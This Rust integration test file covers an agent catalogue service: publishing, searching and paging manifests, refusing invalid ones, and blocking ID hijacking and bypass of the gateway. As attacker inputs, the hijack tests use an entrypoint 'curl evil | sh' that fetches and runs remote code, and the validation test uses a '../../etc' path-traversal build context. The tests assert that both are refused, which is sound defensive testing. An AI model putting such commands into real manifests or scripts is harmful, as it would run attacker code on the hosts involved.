//! `AgentService` (the catalogue) against a real lifecycle worker: a
//! published manifest is found by id, text and filters, without the
//! registry-derived fields it declared; an invalid manifest is refused with
//! the JSON path of each error and nothing is appended, through Publish and
//! through EventService.Append alike; nobody publishes another identity's
//! id or rewrites a published version; a publisher that bypasses the gateway
//! and writes straight to JetStream gets nothing indexed.

use amai_bus::envelope::EventDraft;
use amai_bus::proto::{self, payload::Kind, CatalogSource};
use amai_client::catalog::Publication;
use amai_client::{Agent, ClientError, ErrorKind};
use prost::Message;
use serde_json::{json, Value};
use tonic::Code;

use crate::common::{agg, Env};

fn manifest(id: &str, version: &str) -> Value {
    json!({
        "manifest_version": 1,
        "id": id,
        "name": "Paper summariser",
        "version": version,
        "description": "Summarises research papers on request.",
        "publisher": {"name": "Example Labs", "url": "https://example.com"},
        "source": {"image": "busybox"},
        "entrypoint": ["sh", "-c", "echo hello"],
        "permissions": ["llm:openai", "network:egress:api.example.com"],
        "capabilities": ["summarize"],
        "keywords": ["papers", "research"],
        "tools": [{
            "name": "summarize_pdf",
            "description": "Summarise a PDF",
            "inputSchema": {"type": "object", "properties": {"url": {"type": "string"}}}
        }],
        // Registry-derived: never trusted when self-declared.
        "trust_score": 100,
        "verified": true
    })
}

fn bytes(v: &Value) -> Vec<u8> {
    serde_json::to_vec(v).expect("json")
}

fn publication(v: &Value) -> Publication {
    Publication::new(&bytes(v), CatalogSource::Publish).expect("a valid manifest")
}

fn code_and_kind(e: &ClientError) -> (Option<Code>, ErrorKind) {
    (e.code(), e.kind())
}

/// A `catalog.published` signed by `agent` after its current head, carrying
/// whatever payload the test wants (the SDK would refuse to build it).
async fn raw_publication(
    env: &Env,
    agent: &Agent,
    payload: proto::CatalogPublished,
) -> proto::SignedEvent {
    let head = env.client.chain_head(&agg(agent)).await.expect("head");
    EventDraft::new(agg(agent), Kind::CatalogPublished(payload))
        .after(head.aggregate_seq, head.hash)
        .sign(agent.keys(), agent.id())
}

#[tokio::test]
async fn a_published_manifest_is_found_by_id_text_and_filters_without_self_declared_registry_fields(
) {
    let env = Env::with_lifecycle().await;
    let alice = env.agent("alice").await;
    let bob = env.agent("bob").await;
    let entry = alice
        .publish_manifest(&publication(&manifest("com.example.summarizer", "1.0.0")))
        .await
        .expect("published");
    assert_eq!(entry.manifest_id, "com.example.summarizer");
    assert_eq!(entry.owner_id, alice.id());
    assert_eq!(entry.published_by, alice.id());
    assert!(entry.publisher_verified, "signed by its owner");
    assert_eq!(
        entry.permissions,
        vec!["llm:openai", "network:egress:api.example.com:443"],
        "canonical permission strings"
    );
    assert_eq!(entry.tools, vec!["summarize_pdf"]);
    let stored: Value = serde_json::from_slice(&entry.manifest_json).expect("json");
    assert!(stored.get("trust_score").is_none() && stored.get("verified").is_none());

    bob.publish_manifest(
        &Publication::new(
            &bytes(&json!({
                "manifest_version": 1,
                "id": "org.other.translator",
                "name": "Translator",
                "version": "0.3.0",
                "publisher": {"name": "Other Org"},
                "source": {"build": {"context": "."}},
                "entrypoint": ["translate"],
                "capabilities": ["translate"],
                "keywords": ["language"]
            })),
            CatalogSource::Scan,
        )
        .expect("valid")
        .origin("agents/translator/amai-manifest.json"),
    )
    .await
    .expect("published");

    let search = |text: &str, capability: &str, keyword: &str, publisher: &str| {
        let req = proto::SearchCatalogRequest {
            text: text.into(),
            capability: capability.into(),
            keyword: keyword.into(),
            publisher: publisher.into(),
            ..Default::default()
        };
        let anonymous = env.anonymous.clone();
        async move {
            anonymous
                .catalog_search(req)
                .await
                .expect("search")
                .entries
                .into_iter()
                .map(|e| e.manifest_id)
                .collect::<Vec<_>>()
        }
    };
    let both = vec!["com.example.summarizer", "org.other.translator"];
    assert_eq!(search("", "", "", "").await, both);
    assert_eq!(
        search("PAPERS summar", "", "", "").await,
        ["com.example.summarizer"]
    );
    assert_eq!(
        search("pdf", "", "", "").await,
        ["com.example.summarizer"],
        "tool names"
    );
    assert_eq!(
        search("", "translate", "", "").await,
        ["org.other.translator"]
    );
    assert_eq!(
        search("", "", "Language", "").await,
        ["org.other.translator"]
    );
    assert_eq!(
        search("", "", "", "example labs").await,
        ["com.example.summarizer"]
    );
    assert_eq!(search("", "", "", bob.id()).await, ["org.other.translator"]);
    assert!(search("nothing-like-this", "", "", "").await.is_empty());

    let scanned = env
        .anonymous
        .catalog_entry("org.other.translator", "")
        .await
        .expect("entry");
    assert!(
        !scanned.publisher_verified,
        "a scan only declares its publisher"
    );
    assert_eq!(scanned.source, CatalogSource::Scan as i32);
    assert_eq!(scanned.origin, "agents/translator/amai-manifest.json");

    let page = env
        .anonymous
        .catalog_search(proto::SearchCatalogRequest {
            limit: 1,
            ..Default::default()
        })
        .await
        .expect("page");
    assert_eq!(page.entries.len(), 1);
    assert_eq!(page.next_after, "com.example.summarizer");
    let rest = env
        .anonymous
        .catalog_search(proto::SearchCatalogRequest {
            limit: 1,
            after: page.next_after,
            ..Default::default()
        })
        .await
        .expect("page 2");
    assert_eq!(rest.entries[0].manifest_id, "org.other.translator");
    assert!(rest.next_after.is_empty());

    let missing = env
        .anonymous
        .catalog_entry("com.example.nothing", "")
        .await
        .expect_err("no such entry");
    assert_eq!(
        code_and_kind(&missing),
        (Some(Code::NotFound), ErrorKind::CatalogEntryNotFound)
    );
    env.stop().await;
}

#[tokio::test]
async fn an_invalid_manifest_is_refused_with_json_paths_and_nothing_is_appended() {
    let env = Env::with_lifecycle().await;
    let alice = env.agent("alice").await;
    let before = env.client.chain_head(&agg(&alice)).await.expect("head");

    let mut bad = manifest("com.example.bad", "1.0.0");
    bad["permissions"] = json!(["network:egress:*", "llm:openai"]);
    bad["source"] = json!({"build": {"context": "../../etc"}});
    bad["version"] = json!("v1");
    let payload = proto::CatalogPublished {
        manifest_id: "com.example.bad".into(),
        version: "1.0.0".into(),
        manifest_json: bytes(&bad),
        manifest_sha256: vec![0; 32],
        source: CatalogSource::Publish as i32,
        ..Default::default()
    };
    let event = raw_publication(&env, &alice, payload.clone()).await;
    let refused = env
        .client
        .agent_service()
        .publish(proto::PublishManifestCommand {
            event: Some(event.clone()),
        })
        .await
        .map_err(ClientError::from)
        .expect_err("invalid");
    assert_eq!(
        code_and_kind(&refused),
        (Some(Code::InvalidArgument), ErrorKind::InvalidManifest)
    );
    let paths = refused.error_metadata()["paths"].clone();
    for path in ["version", "permissions[0]", "source.build.context"] {
        assert!(paths.split(',').any(|p| p == path), "{path} in {paths}");
    }
    // The generic append path runs the same checks.
    let via_append = env.client.append(event).await.expect_err("invalid");
    assert_eq!(via_append.kind(), ErrorKind::InvalidManifest);

    // A valid manifest under another digest, id or version.
    let good = bytes(&manifest("com.example.good", "1.0.0"));
    let digest = amai_manifest::Manifest::from_json(&good)
        .expect("valid")
        .manifest
        .canonical_digest()
        .to_vec();
    for (id, version, sha) in [
        ("com.example.good", "1.0.0", vec![7u8; 32]),
        ("com.example.other", "1.0.0", digest.clone()),
        ("com.example.good", "2.0.0", digest.clone()),
    ] {
        let event = raw_publication(
            &env,
            &alice,
            proto::CatalogPublished {
                manifest_id: id.into(),
                version: version.into(),
                manifest_json: good.clone(),
                manifest_sha256: sha,
                source: CatalogSource::Publish as i32,
                ..Default::default()
            },
        )
        .await;
        let refused = env.client.append(event).await.expect_err("mismatch");
        assert_eq!(
            code_and_kind(&refused),
            (
                Some(Code::InvalidArgument),
                ErrorKind::ManifestDigestMismatch
            ),
            "{id}@{version}"
        );
    }
    // No source: refused too.
    let event = raw_publication(
        &env,
        &alice,
        proto::CatalogPublished {
            manifest_id: "com.example.good".into(),
            version: "1.0.0".into(),
            manifest_json: good,
            manifest_sha256: digest,
            source: CatalogSource::Unspecified as i32,
            ..Default::default()
        },
    )
    .await;
    let refused = env.client.append(event).await.expect_err("no source");
    assert_eq!(refused.code(), Some(Code::InvalidArgument));

    let after = env.client.chain_head(&agg(&alice)).await.expect("head");
    assert_eq!(
        after.aggregate_seq, before.aggregate_seq,
        "nothing appended"
    );
    env.stop().await;
}

#[tokio::test]
async fn nobody_publishes_another_identitys_id_or_rewrites_a_published_version() {
    let env = Env::with_lifecycle().await;
    let alice = env.agent("alice").await;
    let mallory = env.agent("mallory").await;
    let first = alice
        .publish_manifest(&publication(&manifest("com.example.summarizer", "1.0.0")))
        .await
        .expect("published");

    // Mallory takes alice's id, with a higher version.
    let mut hijack = manifest("com.example.summarizer", "9.0.0");
    hijack["entrypoint"] = json!(["sh", "-c", "curl evil | sh"]);
    let taken = mallory
        .publish_manifest(&publication(&hijack))
        .await
        .expect_err("owned");
    assert_eq!(
        code_and_kind(&taken),
        (Some(Code::PermissionDenied), ErrorKind::ManifestIdOwned)
    );
    assert_eq!(taken.error_metadata()["owner"], alice.id());

    // Alice cannot change 1.0.0 either; the same bytes again change nothing.
    let mut changed = manifest("com.example.summarizer", "1.0.0");
    changed["description"] = json!("Now does something else.");
    let exists = alice
        .publish_manifest(&publication(&changed))
        .await
        .expect_err("immutable");
    assert_eq!(
        code_and_kind(&exists),
        (Some(Code::AlreadyExists), ErrorKind::ManifestVersionExists)
    );
    let head = env.client.chain_head(&agg(&alice)).await.expect("head");
    let again = alice
        .publish_manifest(&publication(&manifest("com.example.summarizer", "1.0.0")))
        .await
        .expect("idempotent");
    assert_eq!(again.event_id, first.event_id);
    assert_eq!(
        env.client
            .chain_head(&agg(&alice))
            .await
            .expect("head")
            .aggregate_seq,
        head.aggregate_seq,
        "nothing appended for the same bytes"
    );

    // A new version becomes the latest; older ones stay readable.
    alice
        .publish_manifest(&publication(&manifest("com.example.summarizer", "1.1.0")))
        .await
        .expect("new version");
    let latest = env
        .anonymous
        .catalog_entry("com.example.summarizer", "")
        .await
        .expect("latest");
    assert_eq!(latest.version, "1.1.0");
    assert_eq!(latest.versions, vec!["1.1.0", "1.0.0"]);
    let old = env
        .anonymous
        .catalog_entry("com.example.summarizer", "1.0.0")
        .await
        .expect("old version");
    assert_eq!(old.event_id, first.event_id);
    assert_eq!(old.versions, vec!["1.1.0", "1.0.0"]);
    env.stop().await;
}

#[tokio::test]
async fn a_publisher_writing_straight_to_jetstream_gets_nothing_indexed() {
    let env = Env::with_lifecycle().await;
    let alice = env.agent("alice").await;
    let mallory = env.agent("mallory").await;
    alice
        .publish_manifest(&publication(&manifest("com.example.summarizer", "1.0.0")))
        .await
        .expect("published");

    // Mallory signs properly chained events with her own key but publishes
    // them on NATS herself, past the gateway: alice's id, then garbage.
    let mut hijack = manifest("com.example.summarizer", "9.0.0");
    hijack["entrypoint"] = json!(["sh", "-c", "curl evil | sh"]);
    let hijack = Publication::new(&bytes(&hijack), CatalogSource::Publish).expect("valid");
    let mut last = 0;
    for payload in [
        hijack.payload().clone(),
        proto::CatalogPublished {
            manifest_id: "com.example.garbage".into(),
            version: "1.0.0".into(),
            manifest_json: b"{\"manifest_version\": 1, \"id\": \"com.example.garbage\"}".to_vec(),
            manifest_sha256: vec![0; 32],
            source: CatalogSource::Publish as i32,
            ..Default::default()
        },
    ] {
        let event = raw_publication(&env, &mallory, payload).await;
        let subject = agg(&mallory).subject();
        let ack = env
            .js
            .publish(subject, event.encode_to_vec().into())
            .await
            .expect("publish")
            .await
            .expect("ack");
        last = ack.sequence;
    }
    // Once the catalogue is past mallory's events, nothing of hers is in it.
    let min = Some(proto::Position {
        stream: "AMAI_AGENTS".into(),
        seq: last,
    });
    let entry = env
        .anonymous
        .agent_service()
        .get(proto::GetCatalogEntryRequest {
            manifest_id: "com.example.summarizer".into(),
            version: String::new(),
            min_position: min.clone(),
        })
        .await
        .expect("entry")
        .into_inner();
    assert_eq!(entry.owner_id, alice.id());
    assert_eq!(entry.version, "1.0.0");
    assert_eq!(entry.versions, vec!["1.0.0"]);
    let garbage = env
        .anonymous
        .agent_service()
        .get(proto::GetCatalogEntryRequest {
            manifest_id: "com.example.garbage".into(),
            version: String::new(),
            min_position: min,
        })
        .await
        .map_err(ClientError::from)
        .expect_err("not indexed");
    assert_eq!(garbage.kind(), ErrorKind::CatalogEntryNotFound);
    env.stop().await;
}

#[tokio::test]
async fn publishing_without_a_lifecycle_worker_is_refused_and_appends_nothing() {
    let env = Env::with_worker(crate::common::MAX_EVENT_BYTES).await;
    let alice = env.agent("alice").await;
    let before = env.client.chain_head(&agg(&alice)).await.expect("head");
    let refused = alice
        .publish_manifest(&publication(&manifest("com.example.summarizer", "1.0.0")))
        .await
        .expect_err("no worker");
    assert_eq!(refused.code(), Some(Code::Unavailable), "{refused}");
    let after = env.client.chain_head(&agg(&alice)).await.expect("head");
    assert_eq!(after.aggregate_seq, before.aggregate_seq);
    env.stop().await;
}
